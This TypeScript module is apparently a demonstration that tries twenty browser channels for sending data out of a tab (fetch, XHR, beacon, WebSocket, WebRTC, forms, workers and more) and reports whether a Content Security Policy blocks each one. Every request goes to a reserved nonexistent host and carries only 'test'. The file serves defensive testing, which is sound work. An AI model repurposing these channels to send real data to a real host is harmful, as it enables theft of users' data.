/**
 * Tries every way out of the tab that a page has, to a name that can never exist (RFC 2606), so that a visitor can watch
 * each being refused. Carries nothing but the word "test".
 */

export type LeakWay =
  | 'fetch'
  | 'xhr'
  | 'beacon'
  | 'websocket'
  | 'eventsource'
  | 'webtransport'
  | 'webrtc'
  | 'image'
  | 'media'
  | 'font'
  | 'stylesheet'
  | 'script'
  | 'eval'
  | 'form'
  | 'frame'
  | 'object'
  | 'prefetch'
  | 'worker'
  | 'nested-worker'
  | 'service-worker';

export interface LeakAttempt {
  readonly way: LeakWay;
  readonly blocked: boolean;
  /** The policy's directive, or what else refused it. */
  readonly by: string;
}

const host = 'leak-test.invalid';
const target = `https://${host}/test`;
const patienceMs = 1500;

/** One attempt: starts it, and says if it already knows that it failed. What it throws counts as refused. */
type Attempt = () => void | string | Promise<void | string>;

const attempts: Readonly<Record<LeakWay, Attempt>> = {
  fetch: async () => void (await fetch(target, { method: 'POST', body: 'test', mode: 'no-cors' })),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open('POST', target);
    request.send('test');
  },
  beacon: () => void navigator.sendBeacon(target, 'test'),
  websocket: () => void new WebSocket(`wss://${host}/test`),
  eventsource: () => {
    const source = new EventSource(target);
    setTimeout(() => source.close(), patienceMs); // closed at once, it would not even be tried
  },
  webtransport: async () => {
    const { WebTransport } = globalThis as { WebTransport?: new (url: string) => { ready: Promise<void> } };
    if (!WebTransport) return 'not in this browser';
    await new WebTransport(target).ready;
  },
  webrtc: () => {
    if (typeof RTCPeerConnection !== 'function') return 'taken away when the page opened';
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    connection.createDataChannel('test');
    connection.close();
  },
  image: () => void (new Image().src = target),
  media: () => {
    const audio = new Audio();
    audio.src = target;
    audio.load();
  },
  font: async () => void (await new FontFace('leak-test', `url(${target})`).load()),
  stylesheet: () => withElement('link', (link) => Object.assign(link, { rel: 'stylesheet', href: target })),
  script: () => withElement('script', (script) => script.setAttribute('src', target)),
  eval: () => void Function('return 1')(),
  form: () =>
    withElement('form', (form) => {
      Object.assign(form, { action: target, method: 'post', target: 'leak-test-nowhere' });
      form.requestSubmit();
    }),
  frame: () => withElement('iframe', (frame) => void (frame.src = target)),
  object: () => withElement('object', (object) => void (object.data = target)),
  prefetch: () => withElement('link', (link) => Object.assign(link, { rel: 'prefetch', href: target })),
  worker: () => new Worker(target).terminate(),
  'nested-worker': () => {
    const url = new URL('data:text/javascript,fetch("https://leak-test.invalid/test")').href;
    new Worker(url).terminate();
  },
  'service-worker': async () => void (await navigator.serviceWorker.register(target)),
};

export const leakWays = Object.keys(attempts) as readonly LeakWay[]; // the record above names every way

/** Runs all attempts, one after another, and reports each as it ends. */
export async function tryToLeak(onAttempt: (attempt: LeakAttempt) => void): Promise<void> {
  for (const way of leakWays) onAttempt(await attempt(way));
}

async function attempt(way: LeakWay): Promise<LeakAttempt> {
  let onViolation = (event: SecurityPolicyViolationEvent): void => void event;
  const violation = new Promise<string>((resolve) => {
    onViolation = ({ effectiveDirective }) => resolve(effectiveDirective);
  });
  document.addEventListener('securitypolicyviolation', onViolation);
  try {
    const known = await Promise.race([Promise.resolve(attempts[way]()), after(patienceMs, undefined)]);
    if (known !== undefined) return { way, blocked: true, by: known };
    const directive = await Promise.race([violation, after(patienceMs, undefined)]);
    return directive === undefined ? { way, blocked: false, by: '' } : { way, blocked: true, by: directive };
  } catch (error) {
    const directive = await Promise.race([violation, after(patienceMs, (error as Error).name)]);
    return { way, blocked: true, by: directive };
  } finally {
    document.removeEventListener('securitypolicyviolation', onViolation);
  }
}

function withElement<K extends keyof HTMLElementTagNameMap>(
  tag: K,
  act: (element: HTMLElementTagNameMap[K]) => unknown,
): void {
  const element = document.createElement(tag);
  element.hidden = true;
  try {
    document.body.append(element);
    act(element);
  } finally {
    setTimeout(() => element.remove(), patienceMs);
  }
}

function after<T>(ms: number, value: T): Promise<T> {
  return new Promise((resolve) => setTimeout(() => resolve(value), ms));
}
